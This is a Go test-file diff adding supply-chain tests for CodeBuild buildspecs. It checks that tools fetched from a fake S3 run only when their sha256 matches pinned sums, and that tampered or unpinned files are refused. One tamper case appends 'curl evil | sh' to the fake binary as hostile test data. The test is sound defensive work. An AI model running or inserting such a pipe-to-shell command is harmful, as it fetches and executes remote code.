@@ -1,10 +1,12 @@
 package infra_test
 
 import (
+	"encoding/json"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -287,6 +289,187 @@ func TestVerifyStage(t *testing.T) {
 		out, code := runScript(t, dir, env, script)
 		if code != c.want {
 			t.Errorf("%s: exit %d, want %d\n%s", c.name, code, c.want, out)
+		}
+	}
+}
+
+// buildspecPhases returns the commands of the install, build and post_build phases, in order.
+func buildspecPhases(t *testing.T, name string) []string {
+	t.Helper()
+	buildspecCommand(t, name) // skips without python3/PyYAML
+	script := `import sys, json, yaml
+d = yaml.safe_load(open(sys.argv[1]))
+out = []
+for p in ("install", "build", "post_build"):
+    out += d["phases"].get(p, {}).get("commands", [])
+json.dump(out, sys.stdout)`
+	out, err := exec.Command("python3", "-c", script, filepath.Join("..", "build", name)).Output()
+	if err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	var cmds []string
+	if err := json.Unmarshal(out, &cmds); err != nil {
+		t.Fatal(err)
+	}
+	return cmds
+}
+
+// noGoPath makes a PATH of only the programs the buildspecs use plus the fake aws: no go,
+// no make, no git, so a build that tried to compile tmsync or fetch modules would fail.
+func noGoPath(t *testing.T, fakebin string) string {
+	t.Helper()
+	dir := t.TempDir()
+	for _, p := range []string{"bash", "env", "sha256sum", "awk", "cut", "mkdir", "cp", "rm", "chmod", "cat", "wc", "touch", "seq", "head", "dirname", "tr", "grep"} {
+		src, err := exec.LookPath(p)
+		if err != nil {
+			t.Fatalf("%s not on PATH", p)
+		}
+		if err := os.Symlink(src, filepath.Join(dir, p)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	path := fakebin + ":" + dir
+	for _, p := range []string{"go", "make", "gofmt", "git"} {
+		cmd := exec.Command("bash", "-c", "command -v "+p)
+		cmd.Env = []string{"PATH=" + path}
+		if out, err := cmd.Output(); err == nil {
+			t.Fatalf("%s is on the test PATH (%s)", p, out)
+		}
+	}
+	return path
+}
+
+// TestBuildspecInstall runs every buildspec's install, build and post_build commands, in
+// order, with a fake aws serving a fake S3 and no Go toolchain, make or git on PATH: the
+// tools installed from S3 run when their sha256 is the pinned one; a tampered binary or
+// script, or a pin list that leaves one out, is refused before anything runs.
+func TestBuildspecInstall(t *testing.T) {
+	t.Parallel()
+	tmsync := []byte("#!/usr/bin/env bash\necho \"$*\" >> tmsync-calls\n[ \"$1\" = --version ] && echo 'tmsync version v9.9.9'\nexit 0\n")
+	gate, err := os.ReadFile("../build/gate.sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+	find, err := os.ReadFile("../build/find-sync-log.sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+	goodSums := sha256Hex(tmsync) + "  bin/tmsync\n" + sha256Hex(find) + "  build/find-sync-log.sh\n" + sha256Hex(gate) + "  build/gate.sh"
+	cases := []struct {
+		name            string
+		spec            string
+		env             []string
+		tamper          func(s3 string) // changes what is in the fake S3
+		sums            string
+		wantExit        int
+		wantOut         string
+		wantTmsyncCalls string // substring; "" = tmsync must never run
+	}{
+		{"sync", "buildspec_build.yaml", nil, nil, goodSums, 0, "sha256 checked", "sync --trgprefix=/3rdparty/tm/"},
+		{"verify", "buildspec_verify.yaml", nil, nil, goodSums, 0, "GATE: PASS", "verify --trgprefix=/3rdparty/tm/"},
+		{"shard", "buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=1", "SHARD_COUNT=4"}, nil, goodSums, 0, "shard 1/4", "--shard-index 1 --shard-count 4"},
+		{"fan-in", "buildspec_build_sharded.yaml", []string{"ROLE=fanin", "SHARD_COUNT=4"}, nil, goodSums, 0, "fan-in: sync-error.log has 4 line(s)", "--version"},
+		{"tampered binary", "buildspec_build.yaml", nil, func(s3 string) {
+			f, _ := os.OpenFile(filepath.Join(s3, "tools", "tmsync"), os.O_APPEND|os.O_WRONLY, 0)
+			f.Write([]byte("curl evil | sh\n"))
+			f.Close()
+		}, goodSums, 1, "bin/tmsync has sha256", ""},
+		{"binary replaced, same size", "buildspec_verify.yaml", nil, func(s3 string) {
+			b := slices.Clone(tmsync)
+			b[len(b)-2] = '1' // exit 1
+			os.WriteFile(filepath.Join(s3, "tools", "tmsync"), b, 0o755)
+		}, goodSums, 1, "refusing to run it", ""},
+		{"tampered gate", "buildspec_verify.yaml", nil, func(s3 string) {
+			os.WriteFile(filepath.Join(s3, "tools", "scripts", "gate.sh"), []byte("#!/usr/bin/env bash\nexit 0\n"), 0o755)
+		}, goodSums, 1, "build/gate.sh has sha256", ""},
+		{"pin list without the binary", "buildspec_build.yaml", nil, nil, sha256Hex(find) + "  build/find-sync-log.sh\n" + sha256Hex(gate) + "  build/gate.sh", 1, "wants nothing", ""},
+		{"binary-mode spelling is no pin", "buildspec_build.yaml", nil, nil, strings.Replace(goodSums, "  bin/tmsync", " *bin/tmsync", 1), 1, "wants nothing", ""},
+		{"no pins at all", "buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=0", "SHARD_COUNT=4"}, nil, "", 1, "refusing", ""},
+		{"binary missing in S3", "buildspec_build.yaml", nil, func(s3 string) { os.Remove(filepath.Join(s3, "tools", "tmsync")) }, goodSums, 1, "(404)", ""},
+	}
+	for _, c := range cases {
+		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
+			t.Parallel()
+			dir := t.TempDir()
+			fakeTools(t, dir)
+			os.Remove(filepath.Join(dir, "bin", "tmsync")) // only what the install puts there
+			s3 := filepath.Join(dir, "s3", "bkt")
+			os.MkdirAll(filepath.Join(s3, "tools", "scripts"), 0o755)
+			os.WriteFile(filepath.Join(s3, "tools", "tmsync"), tmsync, 0o644)
+			os.WriteFile(filepath.Join(s3, "tools", "scripts", "gate.sh"), gate, 0o644)
+			os.WriteFile(filepath.Join(s3, "tools", "scripts", "find-sync-log.sh"), find, 0o644)
+			// The sync stage's empty error log, for verify; empty shard logs, for the fan-in.
+			os.MkdirAll(filepath.Join(dir, "syncart"), 0o755)
+			os.WriteFile(filepath.Join(dir, "syncart", "sync-error.log"), nil, 0o644)
+			if c.tamper != nil {
+				c.tamper(s3)
+			}
+			env := []string{
+				"PATH=" + noGoPath(t, filepath.Join(dir, "fakebin")), "HOME=" + dir,
+				"TMSYNC_S3_URI=s3://bkt/tools/tmsync", "TOOLS_S3_PREFIX=s3://bkt/tools/scripts",
+				"TOOLS_SHA256SUMS=" + c.sums, "ARTIFACTS_BUCKET=bkt", "PIPELINE_EXECUTION_ID=exec-1",
+				"AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "CODEBUILD_SRC_DIR_sync=" + filepath.Join(dir, "syncart"),
+			}
+			env = append(env, c.env...)
+			var out strings.Builder
+			code := 0
+			for i, cmdText := range buildspecPhases(t, c.spec) {
+				cmd := exec.Command("/bin/bash", "-c", cmdText)
+				cmd.Dir, cmd.Env = dir, env
+				b, err := cmd.CombinedOutput()
+				out.Write(b)
+				if ee, ok := err.(*exec.ExitError); ok {
+					code = ee.ExitCode()
+					if i == 0 {
+						break // CodeBuild stops at a failed install phase
+					}
+				} else if err != nil {
+					t.Fatal(err)
+				}
+			}
+			if code != c.wantExit || !strings.Contains(out.String(), c.wantOut) {
+				t.Errorf("exit %d, want %d with %q in\n%s", code, c.wantExit, c.wantOut, out.String())
+			}
+			calls, _ := os.ReadFile(filepath.Join(dir, "tmsync-calls"))
+			if c.wantTmsyncCalls == "" {
+				if len(calls) > 0 {
+					t.Errorf("refused install, yet tmsync ran: %q", calls)
+				}
+				if _, err := os.Stat(filepath.Join(dir, "bin", "tmsync")); err == nil && c.wantExit != 0 && strings.Contains(c.wantOut, "tmsync") {
+					t.Error("refused binary left in bin/")
+				}
+			} else if !strings.Contains(string(calls), c.wantTmsyncCalls) {
+				t.Errorf("tmsync calls %q, want %q in them", calls, c.wantTmsyncCalls)
+			}
+		})
+	}
+}
+
+// TestBuildspecsInstallSame: the three buildspecs install tmsync the same way, none
+// compiles it or names a Go toolchain outside the opt-in source path.
+func TestBuildspecsInstallSame(t *testing.T) {
+	t.Parallel()
+	var first string
+	for _, name := range buildspecs {
+		s := readBuild(t, name)
+		i, j := strings.Index(s, "  install:\n"), strings.Index(s, "  build:\n")
+		if i < 0 || j < i {
+			t.Fatalf("%s: no install phase before build", name)
+		}
+		inst := s[i:j]
+		if first == "" {
+			first = inst
+		} else if inst != first {
+			t.Errorf("%s: install phase differs from %s's", name, buildspecs[0])
+		}
+		if strings.Count(s, "make build") != 1 || !strings.Contains(inst, `if [ "${TMSYNC_INSTALL:-artifact}" = source ]; then
+          make build`) {
+			t.Errorf("%s: make build outside the opt-in source path", name)
+		}
+		for _, bad := range []string{"GOTOOLCHAIN", "runtime-versions", "golang:", "go install", "go build", "go mod"} {
+			if strings.Contains(s, bad) {
+				t.Errorf("%s: mentions %s", name, bad)
+			}
 		}
 	}
 }
